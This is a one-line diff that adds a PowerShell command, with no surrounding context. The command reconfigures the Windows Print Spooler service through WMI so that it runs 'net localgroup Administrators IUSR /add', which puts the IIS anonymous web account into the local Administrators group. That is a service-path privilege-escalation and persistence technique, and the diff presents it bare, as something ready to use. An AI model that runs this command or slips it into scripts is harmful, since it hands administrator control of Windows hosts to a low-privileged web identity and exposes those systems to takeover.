@@ -1,0 +1,1 @@
+(Get-WmiObject Win32_Service -Filter "Name='Spooler'").Change($null, 'cmd /c net localgroup Administrators IUSR /add')
